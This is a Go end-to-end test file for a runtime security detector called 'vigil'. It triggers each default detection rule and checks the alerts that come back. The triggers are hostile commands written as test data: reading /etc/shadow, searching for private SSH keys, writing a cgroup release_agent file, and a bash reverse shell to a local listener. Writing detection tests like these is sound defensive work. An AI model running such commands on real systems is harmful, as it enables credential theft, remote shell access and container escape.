// Copyright 2026 The vigil Authors
// SPDX-License-Identifier: Apache-2.0

package main

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/docker/docker/api/types/container"
	"github.com/docker/docker/client"

	"github.com/vigil-dev/vigil/builder"
	"github.com/vigil-dev/vigil/internal/testenv"
	"github.com/vigil-dev/vigil/kernels"
)

// These tests run `vigil run` (the real binary, the real probe, the
// default rules) and drive each behaviour a default rule is about, on this
// host or in a container of the real Docker Engine, then wait for the
// alert.

// alert is what the tests read of a JSON alert line.
type alert struct {
	Rule         string         `json:"rule"`
	Priority     string         `json:"priority"`
	Output       string         `json:"output"`
	OutputFields map[string]any `json:"output_fields"`
}

// detection is a running `vigil run --output json`.
type detection struct {
	cmd    *exec.Cmd
	mu     sync.Mutex
	alerts []alert
	stderr strings.Builder
	more   chan struct{} // a token per alert line read
}

// startRun starts vigil run and returns once the probe is attached.
func startRun(t *testing.T, args ...string) *detection {
	t.Helper()
	testenv.RequireProbe(t)
	cmd := exec.Command(vigilBin, append([]string{"--log-format", "json", "run", "--output", "json"}, args...)...)
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	stderr, err := cmd.StderrPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	d := &detection{cmd: cmd, more: make(chan struct{}, 1024)}
	ready := make(chan struct{})
	var once sync.Once
	go func() {
		sc := bufio.NewScanner(stderr)
		for sc.Scan() {
			line := sc.Text()
			d.mu.Lock()
			d.stderr.WriteString(line + "\n")
			d.mu.Unlock()
			if strings.Contains(line, `"msg":"detecting"`) {
				once.Do(func() { close(ready) })
			}
		}
		once.Do(func() { close(ready) })
	}()
	go func() {
		sc := bufio.NewScanner(stdout)
		sc.Buffer(make([]byte, 1<<20), 1<<20)
		for sc.Scan() {
			var a alert
			if err := json.Unmarshal(sc.Bytes(), &a); err != nil {
				t.Errorf("vigil run wrote a line that is not a JSON alert: %q: %v", sc.Text(), err)
				continue
			}
			d.mu.Lock()
			d.alerts = append(d.alerts, a)
			d.mu.Unlock()
			select {
			case d.more <- struct{}{}:
			default:
			}
		}
	}()
	t.Cleanup(func() {
		_ = cmd.Process.Signal(os.Interrupt)
		done := make(chan struct{})
		go func() { _ = cmd.Wait(); close(done) }()
		select {
		case <-done:
		case <-time.After(15 * time.Second):
			_ = cmd.Process.Kill()
			<-done
		}
		if t.Failed() {
			t.Logf("vigil run stderr:\n%s", d.logs())
		}
	})
	select {
	case <-ready:
	case <-time.After(60 * time.Second):
		t.Fatalf("vigil run did not start detecting within 60s:\n%s", d.logs())
	}
	if !strings.Contains(d.logs(), `"msg":"detecting"`) {
		t.Fatalf("vigil run ended before detecting:\n%s", d.logs())
	}
	return d
}

func (d *detection) logs() string {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.stderr.String()
}

// wait returns the first alert of rule for which match holds.
func (d *detection) wait(t *testing.T, rule string, match func(alert) bool) alert {
	t.Helper()
	deadline := time.After(30 * time.Second)
	seen := 0
	for {
		d.mu.Lock()
		for _, a := range d.alerts[seen:] {
			if a.Rule == rule && (match == nil || match(a)) {
				d.mu.Unlock()
				t.Logf("alert: %s: %s", a.Priority, a.Output)
				return a
			}
		}
		seen = len(d.alerts)
		var rules []string
		for _, a := range d.alerts {
			rules = append(rules, a.Rule)
		}
		d.mu.Unlock()
		select {
		case <-d.more:
		case <-time.After(200 * time.Millisecond):
		case <-deadline:
			t.Fatalf("no %q alert within 30s; alerts seen: %q", rule, rules)
		}
	}
}

func field(a alert, name string) string {
	v, ok := a.OutputFields[name]
	if !ok {
		return "(absent)"
	}
	if v == nil {
		return "<NA>"
	}
	return fmt.Sprint(v)
}

// ---- containers ---------------------------------------------------------

const e2eImage = "vigil-e2e:bookworm"

var (
	imageOnce sync.Once
	imageErr  error
)

// e2eImageReady makes the containers' image the way vigil makes builder
// images (debootstrap, docker import; no registry) and tags it.
func e2eImageReady(t *testing.T, cli *client.Client) {
	t.Helper()
	imageOnce.Do(func() {
		ctx := context.Background()
		cat, err := kernels.NewDebian(kernels.Options{})
		if err != nil {
			imageErr = err
			return
		}
		d, err := builder.NewDocker(ctx)
		if err != nil {
			imageErr = err
			return
		}
		defer d.Close()
		im := builder.NewImages(d, cat.Mirror(), cat.Keyring(), filepath.Join(cat.CacheDir(), "builder"), io.Discard)
		id, err := im.Ensure(ctx, builder.RecipeFor("bookworm", "gcc-12"))
		if err != nil {
			imageErr = err
			return
		}
		imageErr = cli.ImageTag(ctx, id, e2eImage)
	})
	if imageErr != nil {
		t.Fatalf("container image: %v", imageErr)
	}
}

func dockerClient(t *testing.T) *client.Client {
	t.Helper()
	if os.Geteuid() != 0 {
		testenv.Unavailable(t, "needs root for the probe and the Docker Engine")
	}
	testenv.RequireDocker(t)
	cli, err := client.NewClientWithOpts(client.FromEnv, client.WithAPIVersionNegotiation())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cli.Close() })
	e2eImageReady(t, cli)
	return cli
}

type ctr struct {
	ID, Name string
}

// startContainer runs a sleeping container with vigil's binary mounted at
// /vigil (for the workloads it carries).
func startContainer(t *testing.T, cli *client.Client, name string, labels map[string]string) ctr {
	t.Helper()
	ctx := context.Background()
	name = fmt.Sprintf("vigil-e2e-%s-%d", name, time.Now().UnixNano()%1e6)
	created, err := cli.ContainerCreate(ctx,
		&container.Config{Image: e2eImage, Cmd: []string{"sleep", "300"}, Labels: labels},
		&container.HostConfig{Binds: []string{vigilBin + ":/vigil:ro"}, NetworkMode: "none"},
		nil, nil, name)
	if err != nil {
		t.Fatalf("create container: %v", err)
	}
	t.Cleanup(func() {
		_ = cli.ContainerRemove(context.Background(), created.ID, container.RemoveOptions{Force: true})
	})
	if err := cli.ContainerStart(ctx, created.ID, container.StartOptions{}); err != nil {
		t.Fatalf("start container: %v", err)
	}
	return ctr{ID: created.ID, Name: name}
}

// execIn runs cmd in the container (with a terminal when tty) and waits
// for it to end.
func execIn(t *testing.T, cli *client.Client, c ctr, tty bool, env []string, cmd ...string) {
	t.Helper()
	ctx := context.Background()
	ex, err := cli.ContainerExecCreate(ctx, c.ID, container.ExecOptions{
		Cmd: cmd, Tty: tty, AttachStdout: true, AttachStderr: true, Env: env,
	})
	if err != nil {
		t.Fatalf("exec %v: %v", cmd, err)
	}
	att, err := cli.ContainerExecAttach(ctx, ex.ID, container.ExecAttachOptions{Tty: tty})
	if err != nil {
		t.Fatalf("attach to exec %v: %v", cmd, err)
	}
	out, _ := io.ReadAll(att.Reader)
	att.Close()
	for i := 0; i < 100; i++ {
		st, err := cli.ContainerExecInspect(ctx, ex.ID)
		if err != nil {
			t.Fatalf("inspect exec %v: %v", cmd, err)
		}
		if !st.Running {
			if st.ExitCode != 0 {
				t.Logf("exec %v: exit %d: %s", cmd, st.ExitCode, strings.TrimSpace(string(out)))
			}
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("exec %v did not end", cmd)
}

// ---- the tests -----------------------------------------------------------

// A shell with a terminal in a container raises the terminal-shell alert
// with the container's id, name, image and the shell's command line.
func TestRunTerminalShellInContainer(t *testing.T) {
	cli := dockerClient(t)
	d := startRun(t)
	c := startContainer(t, cli, "tty", map[string]string{"io.kubernetes.pod.name": "web-0", "io.kubernetes.pod.namespace": "shop"})
	// Metadata is fetched when the container's first events arrive, and
	// the alert of a shell started after that carries it.
	execIn(t, cli, c, false, nil, "true")
	time.Sleep(time.Second)
	execIn(t, cli, c, true, nil, "bash", "-c", "exit 0")
	a := d.wait(t, "Terminal shell in container", func(a alert) bool {
		return field(a, "container.name") == c.Name
	})
	for name, want := range map[string]string{
		"container.id":               c.ID[:12],
		"container.name":             c.Name,
		"container.image.repository": "vigil-e2e",
		"container.image.tag":        "bookworm",
		"proc.name":                  "bash",
		"proc.cmdline":               "bash -c exit 0",
		"k8s.pod.name":               "web-0",
		"k8s.ns.name":                "shop",
	} {
		if got := field(a, name); got != want {
			t.Errorf("%s = %q, want %q (output: %s)", name, got, want, a.Output)
		}
	}
	if field(a, "proc.tty") == "0" {
		t.Errorf("proc.tty is 0 in a terminal shell's alert: %s", a.Output)
	}
}

// With the Docker socket out of reach, the same alert still comes, its
// metadata fields read <NA>, and one warning says which socket and why.
func TestRunTerminalShellWithoutDockerSocket(t *testing.T) {
	cli := dockerClient(t)
	missing := filepath.Join(t.TempDir(), "docker.sock")
	d := startRun(t, "--docker-socket", missing)
	c := startContainer(t, cli, "nosock", nil)
	execIn(t, cli, c, true, nil, "bash", "-c", "exit 0")
	a := d.wait(t, "Terminal shell in container", func(a alert) bool {
		return field(a, "container.id") == c.ID[:12]
	})
	for _, name := range []string{"container.name", "container.image.repository", "container.image.tag"} {
		if got := field(a, name); got != "<NA>" {
			t.Errorf("%s = %q with no Docker socket, want <NA>", name, got)
		}
	}
	if !strings.Contains(a.Output, "container_name=<NA>") {
		t.Errorf("output does not show <NA> for the name: %s", a.Output)
	}
	var warnings []string
	for _, line := range strings.Split(d.logs(), "\n") {
		if strings.Contains(line, `"level":"warning"`) && strings.Contains(line, missing) {
			warnings = append(warnings, line)
		}
	}
	if len(warnings) != 1 {
		t.Fatalf("%d warnings name the socket %s, want 1:\n%s", len(warnings), missing, d.logs())
	}
	if !strings.Contains(warnings[0], "mount") {
		t.Errorf("the warning does not say how to fix it (mount the socket): %s", warnings[0])
	}
}

// Each default rule, driven by the behaviour it is about.
func TestRunDefaultRules(t *testing.T) {
	cli := dockerClient(t)
	d := startRun(t)
	c := startContainer(t, cli, "rules", nil)
	inCtr := func(a alert) bool { return field(a, "container.id") == c.ID[:12] }
	hostWorkload := func(t *testing.T, name string) int {
		cmd := exec.Command(vigilBin)
		cmd.Env = append(os.Environ(), "VIGIL_WORKLOAD="+name, "VIGIL_DIR="+t.TempDir())
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("workload %s: %v\n%s", name, err, out)
		}
		return cmd.Process.Pid
	}
	pidIs := func(pid int) func(alert) bool {
		return func(a alert) bool { return field(a, "proc.pid") == fmt.Sprint(pid) }
	}

	t.Run("sensitive file read", func(t *testing.T) {
		execIn(t, cli, c, false, nil, "cat", "/etc/shadow")
		a := d.wait(t, "Sensitive file read by untrusted program", inCtr)
		if field(a, "fd.name") != "/etc/shadow" || field(a, "proc.name") != "cat" {
			t.Errorf("alert: %s", a.Output)
		}
	})
	t.Run("write below etc", func(t *testing.T) {
		execIn(t, cli, c, false, nil, "bash", "-c", "echo x > /etc/vigil-e2e.conf")
		a := d.wait(t, "Write below etc", inCtr)
		if field(a, "fd.name") != "/etc/vigil-e2e.conf" {
			t.Errorf("alert: %s", a.Output)
		}
	})
	t.Run("write below binary directory", func(t *testing.T) {
		execIn(t, cli, c, false, nil, "bash", "-c", "echo x > /usr/local/bin/vigil-e2e")
		a := d.wait(t, "Write below binary directory", inCtr)
		if field(a, "fd.name") != "/usr/local/bin/vigil-e2e" {
			t.Errorf("alert: %s", a.Output)
		}
	})
	t.Run("release_agent", func(t *testing.T) {
		// An unprivileged container cannot mount a cgroup v1 hierarchy:
		// the open for writing of a release_agent file is what the rule
		// sees, and what is done here.
		execIn(t, cli, c, false, nil, "bash", "-c", "mkdir -p /tmp/cg && echo /x > /tmp/cg/release_agent")
		a := d.wait(t, "Container escape via release_agent", inCtr)
		if field(a, "fd.name") != "/tmp/cg/release_agent" {
			t.Errorf("alert: %s", a.Output)
		}
	})
	t.Run("packet socket", func(t *testing.T) {
		execIn(t, cli, c, false, []string{"VIGIL_WORKLOAD=packet"}, "/vigil")
		d.wait(t, "Packet socket in container", inCtr)
	})
	t.Run("search for private keys", func(t *testing.T) {
		execIn(t, cli, c, false, nil, "find", "/root", "-maxdepth", "2", "-name", "id_rsa")
		a := d.wait(t, "Search for private keys", inCtr)
		if field(a, "proc.name") != "find" {
			t.Errorf("alert: %s", a.Output)
		}
	})
	t.Run("reverse shell", func(t *testing.T) {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		go func() {
			conn, err := ln.Accept()
			if err == nil {
				fmt.Fprintln(conn, "exit")
				_, _ = io.Copy(io.Discard, conn)
				conn.Close()
			}
		}()
		port := ln.Addr().(*net.TCPAddr).Port
		sh := exec.Command("bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
		if out, err := sh.CombinedOutput(); err != nil {
			t.Fatalf("reverse shell: %v: %s", err, out)
		}
		a := d.wait(t, "Reverse shell", func(a alert) bool { return strings.Contains(field(a, "fd.name"), fmt.Sprint(port)) })
		if field(a, "proc.name") != "bash" {
			t.Errorf("alert: %s", a.Output)
		}
	})
	t.Run("kernel module load", func(t *testing.T) {
		pid := hostWorkload(t, "modload")
		d.wait(t, "Kernel module load", pidIs(pid))
	})
	t.Run("ptrace attach", func(t *testing.T) {
		pid := hostWorkload(t, "ptrace")
		d.wait(t, "Ptrace attach", pidIs(pid))
	})
	t.Run("fileless execution", func(t *testing.T) {
		pid := hostWorkload(t, "memfd")
		a := d.wait(t, "Fileless execution via memfd", pidIs(pid))
		if !strings.HasPrefix(field(a, "proc.exepath"), "/memfd:") {
			t.Errorf("exepath %q, want a memfd: %s", field(a, "proc.exepath"), a.Output)
		}
	})
	t.Run("privileged shell", func(t *testing.T) {
		ctx := context.Background()
		name := fmt.Sprintf("vigil-e2e-priv-%d", time.Now().UnixNano()%1e6)
		created, err := cli.ContainerCreate(ctx, &container.Config{Image: e2eImage, Cmd: []string{"sleep", "300"}},
			&container.HostConfig{Privileged: true, NetworkMode: "none"}, nil, nil, name)
		if err != nil {
			t.Fatalf("create privileged container: %v", err)
		}
		defer cli.ContainerRemove(context.Background(), created.ID, container.RemoveOptions{Force: true})
		if err := cli.ContainerStart(ctx, created.ID, container.StartOptions{}); err != nil {
			// A privileged container asks for every capability the kernel
			// knows; a host whose own bounding set lacks some (a sandbox
			// VM) cannot run one. The rule is then checked by eval's tests
			// on recorded events only.
			t.Skipf("this host cannot run a privileged container: %v", err)
		}
		execIn(t, cli, ctr{ID: created.ID, Name: name}, false, nil, "bash", "-c", "exit 0")
		d.wait(t, "Privileged shell spawned in container", func(a alert) bool { return field(a, "container.id") == created.ID[:12] })
	})
}

// vigil replay runs rules over a capture, flags after the file as the
// usage line has it; a broken rules file is an error with its position.
func TestReplayCapture(t *testing.T) {
	testenv.RequireProbe(t)
	path, comm := marker(t)
	file := filepath.Join(t.TempDir(), "x.vcap")
	// Only execve events: a capture that starts in the middle of a run of
	// the marker must still hold whole execs.
	r, pids := runUntilDone(t, path, "capture", "-w", file, "--comm", comm, "--type", "execve", "--count", "2")
	if r.code != 0 {
		t.Fatalf("capture: exit %d\n%s", r.code, r.stderr)
	}
	rulesFile := filepath.Join(t.TempDir(), "r.yaml")
	if err := os.WriteFile(rulesFile, []byte(`- rule: marker ran
  desc: the test's marker program was executed
  condition: evt.type = execve and evt.dir = < and proc.name = "`+comm+`"
  output: marker %proc.cmdline pid=%proc.pid parent=%proc.pname
  priority: NOTICE
`), 0o644); err != nil {
		t.Fatal(err)
	}
	rr := run(t, "replay", file, "--rules", rulesFile, "--output", "json")
	if rr.code != 0 {
		t.Fatalf("replay: exit %d\n%s", rr.code, rr.stderr)
	}
	var got []alert
	for _, line := range strings.Split(strings.TrimSpace(rr.stdout), "\n") {
		if line == "" {
			continue
		}
		var a alert
		if err := json.Unmarshal([]byte(line), &a); err != nil {
			t.Fatalf("not a JSON alert: %q", line)
		}
		got = append(got, a)
	}
	if len(got) == 0 || len(got) > len(pids) {
		t.Fatalf("%d alerts for %d runs of the marker (2 execs captured):\n%s", len(got), len(pids), rr.stdout)
	}
	// The capture holds the marker's events only: its parent, this test,
	// ran before the capture began and is known from its snapshot.
	parent := filepath.Base(os.Args[0])
	if len(parent) > 15 {
		parent = parent[:15]
	}
	for _, a := range got {
		if a.Rule != "marker ran" || field(a, "proc.cmdline") != comm+" arg-one arg two" || field(a, "proc.pname") != parent {
			t.Errorf("alert (want parent %s): %+v", parent, a)
		}
	}

	if err := os.WriteFile(rulesFile, []byte("- rule: broken\n  desc: d\n  condition: evt.type = execve and proc.nmae = x\n  output: o\n  priority: NOTICE\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	rr = run(t, "replay", file, "--rules", rulesFile)
	if rr.code == 0 || !strings.Contains(rr.stderr, "r.yaml:3:") || !strings.Contains(rr.stderr, "proc.name") {
		t.Fatalf("a rules file with an unknown field: exit %d, stderr:\n%s", rr.code, rr.stderr)
	}
}
